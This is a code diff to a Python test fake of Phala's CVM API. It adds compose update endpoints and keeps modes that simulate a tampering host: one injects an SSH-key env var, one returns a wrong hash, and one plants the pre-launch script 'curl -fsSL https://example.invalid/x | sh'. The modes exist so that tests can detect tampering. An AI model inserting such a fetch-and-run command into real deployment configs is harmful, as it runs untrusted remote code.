@@ -2,7 +2,8 @@
 
 Shapes follow Phala's JS SDK as cited in `oauth3.phala.api`: `POST /cvms` prepares (answer:
 `compose_hash`, `app_id`, `app_env_encrypt_pubkey`, `os_image_hash`, `kms_info`) or, with
-`app_id` + `compose_hash` and no `compose_file`, commits; `GET /cvms/{id}`,
+`app_id` + `compose_hash` and no `compose_file`, commits; an update is
+`POST /cvms/{id}/compose_file/provision` then `PATCH /cvms/{id}/compose_file`; `GET /cvms/{id}`,
 `GET /cvms/{id}/compose_file`, `POST /cvms/{id}/stop`, `GET /kms/{kms}/pubkey/{app_id}`.
 """
 
@@ -54,12 +55,17 @@ class FakePhala:
     received_envs: list[dict[str, str]] = field(default_factory=list)
     app_url: str = "https://app.example"
     polls: int = 0
+    pending: dict[str, Any] = field(default_factory=dict)
     failures_left: int = 1
     app_id: str = field(default_factory=lambda: secrets.token_hex(20))
 
     def commits(self) -> list[Any]:
         """Every commit request the fake received."""
-        return [body for method, path, body in self.journal if _is_commit(method, path, body)]
+        return [
+            body
+            for method, path, body in self.journal
+            if _is_commit(method, path, body) or method == "PATCH"
+        ]
 
     def public_key(self) -> bytes:
         """The env-encryption public key handed out."""
@@ -79,8 +85,44 @@ class FakePhala:
         app.router.add_get("/api/v1/cvms/{id}", self._cvm)
         app.router.add_get("/api/v1/cvms/{id}/compose_file", self._compose_file)
         app.router.add_post("/api/v1/cvms/{id}/stop", self._stop)
+        app.router.add_post("/api/v1/cvms/{id}/compose_file/provision", self._update_provision)
+        app.router.add_patch("/api/v1/cvms/{id}/compose_file", self._update_commit)
         app.router.add_get("/api/v1/kms/{kms}/pubkey/{app_id}", self._pubkey)
         return app
+
+    def _prepared(self, compose: dict[str, Any]) -> tuple[dict[str, Any], str]:
+        """The compose the fake stores for a provision (with its mode's lie) and its hash."""
+        if self.mode == "inject_ssh":
+            compose["allowed_envs"] = [*compose["allowed_envs"], "DSTACK_AUTHORIZED_KEYS"]
+        if self.mode == "foreign_script":
+            compose["pre_launch_script"] = "curl -fsSL https://example.invalid/x | sh"
+        digest = hashlib.sha256(canonical(compose)).hexdigest()
+        if self.mode == "wrong_hash":
+            digest = hashlib.sha256(b"other").hexdigest()
+        return compose, digest
+
+    async def _update_provision(self, request: web.Request) -> web.Response:
+        body = await request.json()
+        self.journal.append(("POST", request.path, body))
+        compose = {k: v for k, v in body.items() if k != "update_env_vars"}
+        self.pending, digest = self._prepared(compose)
+        return web.json_response(
+            {
+                "app_id": self.app_id,
+                "device_id": "ab" * 32,
+                "compose_hash": digest,
+                "kms_info": {"id": "kms-1", "chain_id": None},
+                "compose_hash_registered": False,
+            }
+        )
+
+    async def _update_commit(self, request: web.Request) -> web.Response:
+        body = await request.json()
+        self.journal.append(("PATCH", request.path, body))
+        if body.get("encrypted_env"):
+            self.received_envs.append(self.decrypt(body["encrypted_env"]))
+        self.stored, self.polls = self.pending, 0
+        return web.json_response({})
 
     async def _cvms(self, request: web.Request) -> web.Response:
         body = await request.json()
@@ -92,15 +134,7 @@ class FakePhala:
             return web.json_response({"detail": "busy"}, status=503)
         if _is_commit("POST", request.path, body):
             return self._commit(body)
-        compose = dict(body["compose_file"])
-        if self.mode == "inject_ssh":
-            compose["allowed_envs"] = [*compose["allowed_envs"], "DSTACK_AUTHORIZED_KEYS"]
-        if self.mode == "foreign_script":
-            compose["pre_launch_script"] = "curl -fsSL https://example.invalid/x | sh"
-        self.stored = compose
-        digest = hashlib.sha256(canonical(compose)).hexdigest()
-        if self.mode == "wrong_hash":
-            digest = hashlib.sha256(b"other").hexdigest()
+        self.stored, digest = self._prepared(dict(body["compose_file"]))
         image = a_dev_release().os_image_hash if self.mode == "dev_os" else PRODUCTION_IMAGE
         return web.json_response(
             {
